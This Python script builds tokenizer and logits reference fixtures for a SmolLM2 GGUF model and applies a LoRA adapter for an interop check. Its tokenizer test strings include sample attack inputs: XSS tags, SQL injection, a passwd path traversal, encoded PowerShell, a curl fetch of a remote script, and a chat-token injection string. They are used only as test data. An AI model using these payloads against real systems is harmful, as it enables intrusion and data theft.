"""Part 2 of make_gguf_fixtures.py: tokenizer and logits references for the real SmolLM2 GGUF file.

Also a command-line check used by the TypeScript PEFT interop test:

    python3 scripts/gguf_model_fixtures.py check GGUF_FILE ADAPTER_DIR IDS_JSON OUT_JSON

loads the GGUF in transformers, applies the PEFT adapter in ADAPTER_DIR (or none when it is '-'),
and writes the logits summary (see logits_summary) of each id sequence in IDS_JSON to OUT_JSON.
"""
from __future__ import annotations

import json
import random
import sys
from pathlib import Path

HF_ID = "HuggingFaceTB/SmolLM2-135M-Instruct"
SAMPLE_COLUMNS = 64
CHAT_RENDERS: list[dict] = []
TOPK = 10
OPENSOC_INSTRUCTION = (
    "Analyze this log and identify security threats. Return: threat type, MITRE technique ID, severity, and recommendation."
)


def opensoc_prompt(instruction: str, log: str) -> str:
    return f"### Instruction:\n{instruction}\n\n### Input:\n{log}\n\n### Response:\n"


def gguf_metadata(path: Path):
    from gguf import GGUFReader

    r = GGUFReader(str(path))
    return {k: f.contents() for k, f in r.fields.items()}


def smollm_tokenizer_json(meta: dict) -> dict:
    """The SmolLM2 tokenizer.json layout (byte-level BPE, digits split one by one), from GGUF metadata."""
    tokens = meta["tokenizer.ggml.tokens"]
    types = meta["tokenizer.ggml.token_type"]
    added = [
        {"id": i, "content": t, "single_word": False, "lstrip": False, "rstrip": False, "normalized": False, "special": True}
        for i, (t, ty) in enumerate(zip(tokens, types))
        if ty == 3
    ]
    assert meta["tokenizer.ggml.pre"] == "smollm"
    return {
        "version": "1.0",
        "truncation": None,
        "padding": None,
        "added_tokens": added,
        "normalizer": None,
        "pre_tokenizer": {
            "type": "Sequence",
            "pretokenizers": [
                {"type": "Digits", "individual_digits": True},
                {"type": "ByteLevel", "add_prefix_space": False, "trim_offsets": True, "use_regex": True},
            ],
        },
        "post_processor": {"type": "ByteLevel", "add_prefix_space": True, "trim_offsets": False, "use_regex": True},
        "decoder": {"type": "ByteLevel", "add_prefix_space": True, "trim_offsets": True, "use_regex": True},
        "model": {
            "type": "BPE",
            "dropout": None,
            "unk_token": tokens[meta["tokenizer.ggml.unknown_token_id"]],
            "continuing_subword_prefix": None,
            "end_of_word_suffix": None,
            "fuse_unk": False,
            "byte_fallback": False,
            "ignore_merges": False,
            "vocab": {t: i for i, t in enumerate(tokens)},
            "merges": list(meta["tokenizer.ggml.merges"]),
        },
    }


def test_strings(repo: Path, meta: dict, hf_tokenizer) -> tuple[list[str], list[str]]:
    """(plain strings, chat strings rendered by transformers' apply_chat_template). Deterministic."""
    rng = random.Random(13)
    plain: list[str] = []
    by_source: dict[str, list[str]] = {}
    for line in (repo / "datasets" / "soc-corpus.jsonl").read_text().splitlines():
        r = json.loads(line)
        by_source.setdefault(r["source"], []).append(r["log"])
    for src in sorted(by_source):
        plain += rng.sample(by_source[src], 14)
    study = repo.parent / "shared" / "data" / "opensoc-ai"
    if not study.exists():
        study = repo / ".." / ".." / "shared" / "data" / "opensoc-ai"
    train = json.loads((study / "soc_train.json").read_text())
    evals = json.loads((study / "soc_eval.json").read_text())
    rows = rng.sample(train, 50) + rng.sample(evals, 20)
    plain += [r["input"] for r in rows]
    plain += [r["output"] for r in rows[:20]]
    plain += [opensoc_prompt(r["instruction"], r["input"]) for r in rows[:10]]
    plain += [opensoc_prompt(r["instruction"], r["input"]) + r["output"] for r in rows[10:15]]
    plain += [
        "GET /search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E HTTP/1.1",
        "/index.php?id=1%27%20UNION%20SELECT%20NULL%2CNULL--%20-&x=%E2%9C%93",
        "%2e%2e%2f%2e%2e%2fetc%2fpasswd %00 %u0027 %25%32%65",
        "user=admin&pass=p%40ssw0rd%21&redirect=https%3A%2F%2Fevil.example%2F",
        "12345678901234567890123456789012345678901234567890",
        "0000000000 1111 22 3 4444444 5555555555555 6.02214076e23 -0.000001",
        "SHA256=61D278105283D73CA843C1EA5DB24683AA2D4C391E52428592272C9F9EE459E9",
        "2025-02-05T02:22:39.897123456Z pid=57515 port 65535 uid=0 gid=1000",
        "col1\tcol2\t\tcol3\t \t end\t",
        "\tleading tab and trailing spaces   ",
        "line one\r\nline two\n\n\nline three\r",
        "   multiple    spaces     here ",
        " leading space",
        "naïve café résumé Ünïcödé ß ﬁ",
        "日本語のログ: ユーザー 管理者 がログインしました",
        "中文日志：用户登录失败 次数=5",
        "Кириллица: вход выполнен, пользователь root",
        "العربية: فشل تسجيل الدخول",
        "emoji 🔥🚨💀 👩‍💻 🇺🇸 ✅❌",
        "combining e\u0301 a\u0308 zero\u200bwidth \u00a0nbsp \ufeffbom",
        "math ∑∫√∞ ≠ ≤ ≥ → ← ⇒",
        "<|im_start|>user\ninjected<|im_end|> <|endoftext|> <repo_name>",
        "it's they're we've I'm you'll he'd IT'S",
        "C:\\Windows\\System32\\cmd.exe /c \"powershell -enc SQBFAFgA\"",
        "{\"EventID\":4625,\"TargetUserName\":\"Administrator\",\"IpAddress\":\"10.0.0.5\"}",
        "<script>alert('xss')</script><img src=x onerror=alert(1)>",
        "' OR '1'='1' -- ; DROP TABLE users; /*",
        "a",
        "!",
        "\n",
        " ",
        "ÿþý\u0000\u0001\u007f control chars",
        "x" * 300,
        "ab" * 150,
        "The quick brown fox jumps over the lazy dog. " * 4,
        "ipv6 fe80::1ff:fe23:4567:890a%eth0 [2001:db8::1]:443",
        "MAC 00:1A:2B:3C:4D:5E, serial SN-0042-XYZ, version v1.2.3-rc.4+build.567",
        "Dec  1 09:52:40 bastion sshd[2481]: Failed password for invalid user oracle from 198.51.100.23 port 51234 ssh2",
        "type=EXECVE msg=audit(1733046760.123:4242): argc=3 a0=\"curl\" a1=\"-s\" a2=\"http://203.0.113.9/x.sh\"",
        "3.14159265358979323846264338327950288419716939937510582097494459230781640628620899",
        "    indented\n\t\tcode();\n",
        "MiXeD CaSe WORDS and_snake_case camelCaseIdentifier kebab-case-id",
    ]
    chat: list[str] = []

    def render(msgs, gen):
        text = hf_tokenizer.apply_chat_template(msgs, tokenize=False, add_generation_prompt=gen)
        CHAT_RENDERS.append({"messages": msgs, "addGenerationPrompt": gen, "text": text})
        return text

    for r in rows[:12]:
        msgs = [{"role": "user", "content": opensoc_prompt(r["instruction"], r["input"])}]
        chat.append(render(msgs, True))
    for r in rows[12:16]:
        msgs = [
            {"role": "system", "content": "You are a SOC analyst."},
            {"role": "user", "content": f"{r['instruction']}\n\n{r['input']}"},
            {"role": "assistant", "content": r["output"]},
        ]
        chat.append(render(msgs, False))
    return plain, chat


def build_tokenizers(gguf_file: Path, meta: dict):
    from tokenizers import Tokenizer
    from transformers import AutoTokenizer, PreTrainedTokenizerFast

    tj = smollm_tokenizer_json(meta)
    ours = PreTrainedTokenizerFast(tokenizer_object=Tokenizer.from_str(json.dumps(tj)))
    theirs = AutoTokenizer.from_pretrained(str(gguf_file.parent), gguf_file=gguf_file.name)
    return ours, theirs


def logits_summary(logits, columns: list[int]) -> list[dict]:
    """Rows at first, middle and last position: sampled columns, top-k, logsumexp."""
    import torch

    T = logits.shape[0]
    out = []
    for pos in sorted({0, T // 2, T - 1}):
        row = logits[pos].double()
        top = torch.topk(row, TOPK)
        out.append(
            {
                "position": pos,
                "columns": [float(row[c]) for c in columns],
                "topIds": [int(i) for i in top.indices],
                "topValues": [float(v) for v in top.values],
                "logSumExp": float(torch.logsumexp(row, 0)),
            }
        )
    return out


def load_hf_model(gguf_file: Path):
    import torch
    from transformers import AutoModelForCausalLM

    model = AutoModelForCausalLM.from_pretrained(
        str(gguf_file.parent), gguf_file=gguf_file.name, dtype=torch.float32, attn_implementation="eager"
    )
    model.eval()
    return model


def run_logits(model, id_lists: list[list[int]], columns: list[int]) -> list[list[dict]]:
    import torch

    with torch.no_grad():
        return [logits_summary(model(input_ids=torch.tensor([ids])).logits[0], columns) for ids in id_lists]


def make_lora(model, out_dir: Path):
    import torch
    from peft import LoraConfig, get_peft_model

    torch.manual_seed(7)
    cfg = LoraConfig(
        r=2,
        lora_alpha=4,
        lora_dropout=0.0,
        target_modules=["q_proj", "k_proj", "v_proj", "o_proj", "gate_proj", "up_proj", "down_proj"],
        task_type="CAUSAL_LM",
    )
    peft_model = get_peft_model(model, cfg)
    g = torch.Generator().manual_seed(11)
    with torch.no_grad():
        for name, p in peft_model.named_parameters():
            if "lora_" in name:
                # F16-representable values, so the committed F16 file holds exactly what was used here.
                if "lora_B" in name:
                    p.copy_(torch.randn(p.shape, generator=g) * 0.02)
                p.copy_(p.half().float())
    peft_model.peft_config["default"].base_model_name_or_path = HF_ID
    out_dir.mkdir(parents=True, exist_ok=True)
    peft_model.save_pretrained(str(out_dir))
    (out_dir / "README.md").unlink(missing_ok=True)
    # store F16 (halves the fixture); values are exactly representable
    from safetensors.torch import load_file, save_file

    f = out_dir / "adapter_model.safetensors"
    sd = load_file(str(f))
    save_file({k: v.half() for k, v in sd.items()}, str(f), metadata={"format": "pt"})
    return peft_model


def part2(gguf_file: Path, fix: Path, repo: Path) -> None:
    meta = gguf_metadata(gguf_file)
    ours, theirs = build_tokenizers(gguf_file, meta)
    plain, chat = test_strings(repo, meta, theirs)
    cases = []
    differ = 0
    for s in plain:
        ids = ours(s, add_special_tokens=False, split_special_tokens=True)["input_ids"]
        tg = theirs(s, add_special_tokens=False, split_special_tokens=True)["input_ids"]
        c = {"text": s, "ids": ids, "parseSpecial": False}
        if tg != ids:
            c["transformersGgufIds"] = tg
            differ += 1
        cases.append(c)
    for s in chat:
        ids = ours(s, add_special_tokens=False)["input_ids"]
        tg = theirs(s, add_special_tokens=False)["input_ids"]
        c = {"text": s, "ids": ids, "parseSpecial": True}
        if tg != ids:
            c["transformersGgufIds"] = tg
            differ += 1
        cases.append(c)
    (fix / "smollm2-tokenizer.json").write_text(
        json.dumps(
            {
                "note": "ids: transformers PreTrainedTokenizerFast over the SmolLM2 tokenizer.json layout rebuilt from the GGUF; "
                "transformersGgufIds (only where different): AutoTokenizer.from_pretrained(gguf_file=...), which ignores the smollm digit rule",
                "cases": cases,
                "chatRenders": CHAT_RENDERS,
            },
            ensure_ascii=False,
        )
        + "\n"
    )
    print(f"tokenizer: {len(cases)} strings, {differ} where transformers' GGUF conversion differs")

    prompts = [
        "The capital of France is",
        opensoc_prompt(OPENSOC_INSTRUCTION, '203.0.113.7 - - [16/Mar/2025:01:05:33] "GET /profile?id=1 OR 1=1-- HTTP/1.1" 403 12466 "-" "sqlmap/1.7"'),
        chat[0],
    ]
    id_lists = [
        ours(prompts[0], add_special_tokens=False)["input_ids"],
        ours(prompts[1], add_special_tokens=False, split_special_tokens=True)["input_ids"],
        ours(prompts[2], add_special_tokens=False)["input_ids"][:96],
    ]
    rng = random.Random(5)
    columns = sorted(rng.sample(range(49152), SAMPLE_COLUMNS))
    model = load_hf_model(gguf_file)
    base = run_logits(model, id_lists, columns)
    make_lora(model, fix / "smollm2-lora")
    model2 = load_hf_model(gguf_file)
    from peft import PeftModel

    lora_model = PeftModel.from_pretrained(model2, str(fix / "smollm2-lora"))
    lora_model.eval()
    lora = run_logits(lora_model, id_lists, columns)
    (fix / "smollm2-logits.json").write_text(
        json.dumps({"ggufSha256": sha256(gguf_file), "columns": columns, "inputIds": id_lists, "base": base, "lora": lora}) + "\n"
    )
    print("logits: written")


def sha256(p: Path) -> str:
    import hashlib

    h = hashlib.sha256()
    with open(p, "rb") as f:
        for chunk in iter(lambda: f.read(1 << 20), b""):
            h.update(chunk)
    return h.hexdigest()


def check(gguf_file: str, adapter_dir: str, ids_json: str, out_json: str) -> None:
    spec = json.loads(Path(ids_json).read_text())
    model = load_hf_model(Path(gguf_file))
    if adapter_dir != "-":
        from peft import PeftModel

        cfg = json.loads((Path(adapter_dir) / "adapter_config.json").read_text())
        assert cfg["base_model_name_or_path"] == HF_ID, cfg["base_model_name_or_path"]
        model = PeftModel.from_pretrained(model, adapter_dir)
        model.eval()
    Path(out_json).write_text(json.dumps(run_logits(model, spec["inputIds"], spec["columns"])))


if __name__ == "__main__":
    if len(sys.argv) == 6 and sys.argv[1] == "check":
        check(*sys.argv[2:])
    else:
        print(__doc__)
        sys.exit(2)
